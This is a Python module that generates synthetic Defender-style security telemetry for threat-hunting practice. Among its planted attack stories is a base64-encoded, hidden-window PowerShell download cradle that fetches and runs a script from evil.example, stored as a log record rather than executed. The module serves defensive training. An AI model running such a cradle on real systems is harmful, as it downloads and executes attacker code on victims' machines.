"""A small deterministic demo environment, so that a new user can hunt at once.

Devices with users, process trees (``InitiatingProcess*`` filled as Defender fills them),
network connections and logons, with a few attack stories in them:

* an encoded PowerShell download cradle on one workstation;
* a public-IP remote logon;
* a troubleshooting-mode event (``AntivirusTroubleshootModeEvent``).

>>> rows = generate(seed=7, devices=3, days=1)
>>> sorted(rows)[:2]
['DeviceEvents', 'DeviceInfo']
"""

from __future__ import annotations

import base64
import hashlib
import random
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

BENIGN = [
    ("explorer.exe", "C:\\Windows\\explorer.exe", "explorer.exe"),
    ("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     '"chrome.exe" --type=renderer'),
    ("outlook.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
     '"OUTLOOK.EXE"'),
    ("svchost.exe", "C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p"),
    ("cmd.exe", "C:\\Windows\\System32\\cmd.exe", 'cmd.exe /c "dir C:\\Users"'),
    ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -NoProfile -Command Get-Process"),
    ("teams.exe", "C:\\Users\\user\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
     "Teams.exe --system-initiated"),
    ("notepad.exe", "C:\\Windows\\System32\\notepad.exe", "notepad.exe report.txt"),
]
USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"]


def _sha256(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def _sha1(text: str) -> str:
    return hashlib.sha1(text.encode()).hexdigest()  # noqa: S324 - a file identifier, as in Defender


def generate(seed: int = 1, devices: int = 20, days: int = 7,
             end: datetime | None = None) -> dict[str, list[dict[str, Any]]]:
    """Rows per table for a small environment; the same seed gives the same rows."""
    rng = random.Random(seed)
    # by default the data ends at the current hour, so that `ago()` hunts find it
    end = (end or datetime.now(UTC).replace(minute=0, second=0, microsecond=0)).replace(
        tzinfo=None)
    start = end - timedelta(days=days)
    out: dict[str, list[dict[str, Any]]] = {
        "DeviceInfo": [], "DeviceProcessEvents": [], "DeviceNetworkEvents": [],
        "DeviceLogonEvents": [], "DeviceEvents": [],
    }
    fleet = []
    for i in range(devices):
        name = f"{'ws' if i % 5 else 'srv'}-{i:03d}.contoso.local"
        dev = {"DeviceId": _sha1(f"device-{seed}-{i}"), "DeviceName": name,
               "user": USERS[i % len(USERS)], "ip": f"10.0.{i // 250}.{i % 250 + 1}"}
        fleet.append(dev)
        out["DeviceInfo"].append({
            "Timestamp": start.isoformat(), "DeviceId": dev["DeviceId"], "DeviceName": name,
            "OSPlatform": "WindowsServer2022" if i % 5 == 0 else "Windows11",
            "OSVersion": "10.0", "PublicIP": f"203.0.113.{i % 200 + 1}",
            "ReportId": rng.randrange(1, 10**9),
        })

    def when() -> datetime:
        return start + timedelta(seconds=rng.randrange(int((end - start).total_seconds())))

    def process(dev: dict[str, Any], ts: datetime, file: str, folder: str, cmd: str,
                parent: tuple[str, str, str]) -> dict[str, Any]:
        return {
            "Timestamp": ts.isoformat(), "DeviceId": dev["DeviceId"],
            "DeviceName": dev["DeviceName"], "ActionType": "ProcessCreated",
            "FileName": file, "FolderPath": folder, "SHA1": _sha1(folder),
            "SHA256": _sha256(folder), "ProcessId": rng.randrange(1000, 60000),
            "ProcessCommandLine": cmd, "ProcessCreationTime": ts.isoformat(),
            "AccountDomain": "contoso", "AccountName": dev["user"],
            "AccountSid": f"S-1-5-21-1004-{USERS.index(dev['user']) + 1000}",
            "InitiatingProcessFileName": parent[0], "InitiatingProcessFolderPath": parent[1],
            "InitiatingProcessCommandLine": parent[2],
            "InitiatingProcessAccountName": dev["user"],
            "InitiatingProcessId": rng.randrange(1000, 60000),
            "InitiatingProcessSHA256": _sha256(parent[1]),
            "ReportId": rng.randrange(1, 10**9),
        }

    for dev in fleet:
        for _ in range(days * 20):
            ts = when()
            file, folder, cmd = rng.choice(BENIGN)
            parent = rng.choice(BENIGN)
            out["DeviceProcessEvents"].append(process(dev, ts, file, folder, cmd, parent))
            out["DeviceNetworkEvents"].append({
                "Timestamp": ts.isoformat(), "DeviceId": dev["DeviceId"],
                "DeviceName": dev["DeviceName"], "ActionType": "ConnectionSuccess",
                "RemoteIP": f"52.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(256)}",
                "RemotePort": rng.choice([443, 443, 443, 80, 53]), "RemoteIPType": "Public",
                "LocalIP": dev["ip"], "Protocol": "Tcp", "InitiatingProcessFileName": file,
                "ReportId": rng.randrange(1, 10**9),
            })
        for _ in range(days * 2):
            out["DeviceLogonEvents"].append({
                "Timestamp": when().isoformat(), "DeviceId": dev["DeviceId"],
                "DeviceName": dev["DeviceName"], "ActionType": "LogonSuccess",
                "LogonType": "Interactive", "AccountDomain": "contoso",
                "AccountName": dev["user"], "RemoteIP": "", "RemoteIPType": "",
                "ReportId": rng.randrange(1, 10**9),
            })

    # story 1: an encoded PowerShell download cradle launched from Office
    victim = fleet[min(1, len(fleet) - 1)]
    payload = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
    encoded = base64.b64encode(payload.encode("utf-16-le")).decode()
    ts = end - timedelta(hours=5)
    out["DeviceProcessEvents"].append(process(
        victim, ts, "powershell.exe", BENIGN[5][1],
        f"powershell.exe -NoP -W Hidden -EncodedCommand {encoded}", BENIGN[2]))
    # story 2: a remote logon from a public address
    server = fleet[0]
    out["DeviceLogonEvents"].append({
        "Timestamp": (end - timedelta(hours=3)).isoformat(), "DeviceId": server["DeviceId"],
        "DeviceName": server["DeviceName"], "ActionType": "LogonSuccess",
        "LogonType": "RemoteInteractive", "AccountDomain": "contoso", "AccountName": "admin",
        "RemoteIP": "198.51.100.23", "RemoteIPType": "Public",
        "ReportId": rng.randrange(1, 10**9),
    })
    # story 3: troubleshooting mode switched on
    out["DeviceEvents"].append({
        "Timestamp": (end - timedelta(hours=2)).isoformat(), "DeviceId": victim["DeviceId"],
        "DeviceName": victim["DeviceName"], "ActionType": "AntivirusTroubleshootModeEvent",
        "AdditionalFields": '{"TroubleshootingState":"Enabled","TroubleshootingStartTime":"'
                            + (end - timedelta(hours=2)).isoformat() + 'Z"}',
        "ReportId": rng.randrange(1, 10**9), "ProcessId": 0,
        "FileName": "", "InitiatingProcessFileName": "MsSense.exe",
    })
    for rows in out.values():
        for r in rows:
            r.setdefault("ReportId", str(uuid.UUID(int=rng.getrandbits(128))))
    return out


def load(db: Any, seed: int = 1, devices: int = 20, days: int = 7,
         end: datetime | None = None) -> dict[str, int]:
    """Generate and ingest the demo environment into ``db``; returns rows per table."""
    counts = {}
    for table, rows in generate(seed, devices, days, end).items():
        counts[table] = db.ingest(table, rows)
    return counts
